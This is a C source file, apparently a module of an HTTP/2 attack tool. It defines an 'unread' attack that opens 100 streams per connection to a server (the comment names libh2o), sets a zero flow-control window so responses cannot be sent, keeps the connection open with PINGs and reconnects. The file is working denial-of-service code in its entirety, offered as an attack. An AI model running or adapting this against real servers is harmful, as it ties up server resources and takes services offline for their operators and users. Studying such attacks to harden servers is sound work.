/* HTTP/2 requests whose answers have no window to go into. */
#include "attack.h"

#define STREAMS 100 /* what libh2o allows at a time */

static bool turn(client *c)
{
    if (c->step > 0) {
        put_frame(c, PING, 0, 0, "12345678", 8);
        return true;
    }
    for (int i = 0; i < STREAMS; i++) {
        if (words.body == NULL) {
            put_request(c, "GET", END_HEADERS | END_STREAM);
        } else {
            const uint32_t stream = put_post(c, "application/json", words.body_size, END_HEADERS);
            put_frame(c, DATA, END_STREAM, stream, words.body, words.body_size);
        }
    }
    return true;
}

const attack unread = {
    .name = "unread",
    .help = "100 requests for each connection, a window of 0, and PINGs",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .no_window = true,
    .turn_ms = 500,
    .turn = turn,
};
